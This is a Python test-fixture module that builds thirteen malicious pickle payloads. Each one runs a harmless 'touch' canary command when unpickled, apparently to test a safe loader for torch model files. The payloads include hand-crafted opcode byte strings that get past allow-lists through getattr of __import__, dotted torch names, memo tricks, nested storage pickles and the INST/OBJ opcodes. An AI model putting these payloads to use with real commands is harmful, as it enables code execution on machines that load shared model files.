"""Pickles that touch a file when unpickled without care: the canary of `hostile.py`.

Each is a way past some defense: names that look harmless, names with dots, what an allow-list of
modules lets through, pickles inside pickles, opcodes that few readers think of.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import numpy as np
import torch
from torch.utils import collect_env


@dataclass(frozen=True)
class Call:
    """Pickles as the call of a function, which opening it makes."""

    function: Callable[..., object]
    arguments: tuple[object, ...]

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.function, self.arguments


def _touch(canary: Path) -> str:
    return f"touch {canary}"


def _python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def system(canary: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(Call(os.system, (_touch(canary),)), protocol)


def evaluated(canary: Path) -> bytes:
    return pickle.dumps(Call(eval, (_python(canary),)), 4)


def executed(canary: Path) -> bytes:
    return pickle.dumps(Call(exec, (_python(canary),)), 4)


def process(canary: Path) -> bytes:
    return pickle.dumps(Call(subprocess.check_call, (["touch", str(canary)],)), 4)


def of_torch(canary: Path) -> bytes:
    """A function of torch's own that runs a command."""
    return pickle.dumps(Call(collect_env.run, (_touch(canary),)), 4)


def pickle_in_pickle(canary: Path) -> bytes:
    """The function that torch rebuilds storages with unpickles anything."""
    inner = io.BytesIO()
    torch.save(Call(os.system, (_touch(canary),)), inner)
    return pickle.dumps(Call(torch.storage._load_from_bytes, (inner.getvalue(),)), 4)


def array_of_objects(canary: Path) -> bytes:
    return pickle.dumps(np.array([Call(os.system, (_touch(canary),))], dtype=object), 4)


def chained(canary: Path) -> bytes:
    """`getattr` of an import: no name in the pickle is that of a dangerous function."""
    return (
        b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n"
        + (_text("os") + b"\x85R")
        + (_text("system") + b"\x86R")
        + _arguments(canary)
        + b"R."
    )


def dotted(canary: Path) -> bytes:
    """`torch` is allowed, and its `os.system` is one STACK_GLOBAL away."""
    return b"\x80\x04" + _text("torch") + _text("os.system") + b"\x93" + _arguments(canary) + b"R."


def through_the_memo(canary: Path) -> bytes:
    """The function is in the memo, under something harmless, until it is called."""
    fetched = b"cposix\nsystem\nq\x070" + b"ccollections\nOrderedDict\n0" + b"h\x07"
    return b"\x80\x02" + fetched + _arguments(canary) + b"R."


def old_opcode(canary: Path) -> bytes:
    """INST of protocol 0: a call without REDUCE."""
    return f"(S{_touch(canary)!r}\nios\nsystem\n.".encode()


def built_object(canary: Path) -> bytes:
    """OBJ, the other call without REDUCE."""
    return b"\x80\x02(cos\nsystem\n" + _text(_touch(canary)) + b"o."


def partial_of(canary: Path) -> bytes:
    """A `functools.partial`, which carries its argument along."""
    return pickle.dumps(Call(partial(os.system, _touch(canary)), ()), 4)


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "os.system": system,
    "eval": evaluated,
    "exec": executed,
    "a process": process,
    "a command runner of torch's": of_torch,
    "a pickle in a storage": pickle_in_pickle,
    "an array of objects": array_of_objects,
    "getattr of an import": chained,
    "a dotted name in torch": dotted,
    "the memo": through_the_memo,
    "INST": old_opcode,
    "OBJ": built_object,
    "a partial": partial_of,
}


def _text(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _arguments(canary: Path) -> bytes:
    return _text(_touch(canary)) + b"\x85"
